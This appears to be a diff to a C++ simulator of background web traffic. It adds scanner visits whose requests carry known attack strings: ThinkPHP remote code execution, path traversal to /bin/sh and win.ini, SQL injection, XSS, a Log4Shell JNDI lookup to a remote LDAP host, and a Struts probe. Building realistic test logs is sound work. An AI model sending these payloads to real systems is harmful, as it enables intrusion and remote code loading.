@@ -190,11 +190,36 @@ void crawl_old_pages(NoiseContext& at, const std::vector<std::string>& crawlers,
   visit.finish(0);
 }
 
-void probe_site(NoiseContext& at, Timestamp time, Random& random) {
+// Code for holes of programs that the site is not made of.
+void send_exploit(Random& random, Visit& visit) {
+  struct Attempt {
+    std::string_view path;
+    std::string_view query;
+  };
+
+  constexpr Attempt kAttempts[] = {
+      {"/index.php", "s=/index/think/app/invokefunction&function=call_user_func_array"},
+      {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "-"},
+      {"/search", "q=%27%20UNION%20SELECT%20null,null--"},
+      {"/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"},
+      {"/static/..%2f..%2fwindows/win.ini", "-"},
+      {"/login", "user=$%7Bjndi:ldap://198.18.7.7/a%7D"},
+      {"/struts2-showcase/index.action", "-"}};
+  const Attempt& attempt = random.pick(kAttempts);
+  visit.ask(std::string(attempt.path), random.chance(30) ? 400 : 404, 1245,
+            std::string(attempt.query));
+}
+
+void probe_site(NoiseContext& at, std::uint32_t exploit_percent, Timestamp time, Random& random) {
   Visit visit(at, random, time, at.visitor(random), std::string(random.pick(kProbeAgents)));
   const std::uint32_t requests = random.between(1, 12);
+  const bool has_code = random.chance(exploit_percent);
   for (std::uint32_t i = 0; i < requests; ++i) {
-    visit.ask(std::string(random.pick(kProbes)), random.chance(8) ? 403 : 404, 1245);
+    if (has_code && random.chance(50)) {
+      send_exploit(random, visit);
+    } else {
+      visit.ask(std::string(random.pick(kProbes)), random.chance(8) ? 403 : 404, 1245);
+    }
     visit.wait(60, 900);
   }
   visit.finish(100);
@@ -257,8 +282,10 @@ void plan_outside(const NoisePlan& plan) {
   } else if (profile.kind == "search_crawlers") {
     plan_crawlers(plan);
   } else if (profile.kind == "web_probes") {
-    plan.add("probes_per_day", Curve::Steady,
-             [&at](Timestamp time, Random& random) { probe_site(at, time, random); });
+    const auto exploits = static_cast<std::uint32_t>(profile.number("exploit_percent"));
+    plan.add("probes_per_day", Curve::Steady, [&at, exploits](Timestamp time, Random& random) {
+      probe_site(at, exploits, time, random);
+    });
   } else if (profile.kind == "site_users" && !at.world().site.upload_path.empty()) {
     const double refused = profile.number("refused_percent");
     plan.add("uploads_per_day", Curve::Public, [&at, refused](Timestamp time, Random& random) {
